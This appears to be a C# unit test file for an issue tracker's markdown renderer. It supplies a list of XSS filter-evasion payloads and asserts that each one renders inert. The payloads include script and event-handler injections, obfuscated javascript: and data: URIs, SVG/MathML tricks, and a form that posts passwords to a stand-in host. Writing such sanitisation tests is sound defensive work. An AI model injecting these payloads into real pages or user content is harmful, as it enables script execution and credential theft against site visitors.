using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace IssueTracker.Tests.Services;

/// <summary>
/// Hostile markdown, as people and monitors paste it into descriptions and comments, rendered and asserted inert:
/// the OWASP XSS filter-evasion cases, entity-encoded schemes, SVG and MathML, and attribute injection (Markdig's
/// generic attributes would let text style the page or clobber its names).
/// </summary>
public sealed class MarkdownSecurityTests
{
    private static readonly MarkdownRenderer Renderer = new();

    // What the renderer may ever emit: anything else means user text became markup.
    private static readonly HashSet<string> AllowedElements =
    [
        "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "code", "pre", "blockquote",
        "ul", "ol", "li", "a", "img", "table", "thead", "tbody", "tr", "th", "td", "input",
    ];

    private static readonly HashSet<string> AllowedAttributes = ["href", "src", "alt", "title", "start", "type", "checked", "disabled", "rel", "target"];

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<BODY ONLOAD=alert('XSS')>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
        "<div style=\"position:fixed;inset:0\">overlay</div>",
        "<a href=\"javascript:alert(1)\">raw link</a>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<object data=\"x.swf\"></object>",
        "<embed src=\"x.swf\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>body{display:none}</style>",
        "<form action=\"https://evil.example\"><input name=password></form>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<xss onafterscriptexecute=alert(1)><script>1</script>",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](&#106;avascript:alert(1))",
        "[click](&#x6A;avascript:alert(1))",
        "[click](&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1))",
        "[click](java&#09;script:alert(1))",
        "[click](jav&#x0A;ascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![img](javascript:alert(1))",
        "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "[x](https://e.example){style=\"position:fixed;inset:0;z-index:9999\"}",
        "[x](https://e.example){name=querySelector}",
        "[x](https://e.example){id=app}",
        "[x](https://e.example){.mud-overlay}",
        "[x](https://e.example){onclick=alert(1)}",
        "[x](https://e.example){data-enhance-nav=false}",
        "# Heading {#main .evil style=\"color:red\"}",
        "[x](https://e.example \"t\\\" onmouseover=\\\"alert(1)\")",
        "![a\" onerror=\"alert(1)](https://e.example/x.png)",
        "[x](https://e.example/\"onmouseover=\"alert(1))",
        "<a href=\"https://e.example\" target=\"_self\" onclick=\"x\">raw</a>",
        "| a | b |\n|:-|-:|\n| <script>alert(1)</script> | x |",
        "- [x] done <input type=text name=q>",
        "```html\n<script>alert(1)</script>\n```",
        "`<img src=x onerror=alert(1)>`",
    ];

    [Theory]
    [MemberData(nameof(Hostile))]
    public void HostileMarkdown_RendersInert(string hostile)
    {
        // Arrange
        var source = "Before\n\n" + hostile + "\n\nafter";

        // Act
        var html = Renderer.ToHtml(source);

        // Assert
        var body = new HtmlParser().ParseDocument("<body>" + html + "</body>").Body!;
        var elements = body.QuerySelectorAll("*");
        Assert.All(elements, e => Assert.Contains(e.LocalName, AllowedElements));
        Assert.All(elements.SelectMany(e => e.Attributes), a => Assert.Contains(a.LocalName, AllowedAttributes));
        Assert.All(elements.Where(e => e.HasAttribute("target")), e => Assert.Equal("_blank", e.GetAttribute("target")));
        Assert.All(elements.Where(e => e.LocalName == "input"), e =>
        {
            Assert.Equal("checkbox", e.GetAttribute("type"));
            Assert.True(e.HasAttribute("disabled"));
        });
        Assert.All(elements.SelectMany(UrlsOf), url =>
        {
            if (Uri.TryCreate(url, UriKind.Absolute, out var uri))
                Assert.Contains(uri.Scheme, new[] { "http", "https", "mailto" });
            Assert.DoesNotContain("script:", url.ToLowerInvariant().Replace("\t", "").Replace("\n", ""));
        });
        Assert.Contains("after", body.TextContent);
    }

    [Fact]
    public void Markdown_KeepsWhatTheTrackerNeeds_TablesTaskListsStrikethroughAutolinks()
    {
        // Act
        var html = Renderer.ToHtml("| check | rows |\n|---|---|\n| nulls | 12 |\n\n- [x] fixed\n- [ ] verify\n\n~~wrong~~ see https://example.com/runbook");

        // Assert
        var body = new HtmlParser().ParseDocument("<body>" + html + "</body>").Body!;
        Assert.Equal(["check", "rows", "nulls", "12"], body.QuerySelectorAll("th, td").Select(c => c.TextContent));
        Assert.Equal(2, body.QuerySelectorAll("input[type=checkbox][disabled]").Length);
        Assert.Equal("wrong", body.QuerySelector("del")?.TextContent);
        Assert.Equal("https://example.com/runbook", body.QuerySelector("a")?.GetAttribute("href"));
    }

    private static IEnumerable<string> UrlsOf(IElement element) =>
        new[] { element.GetAttribute("href"), element.GetAttribute("src") }.OfType<string>();
}
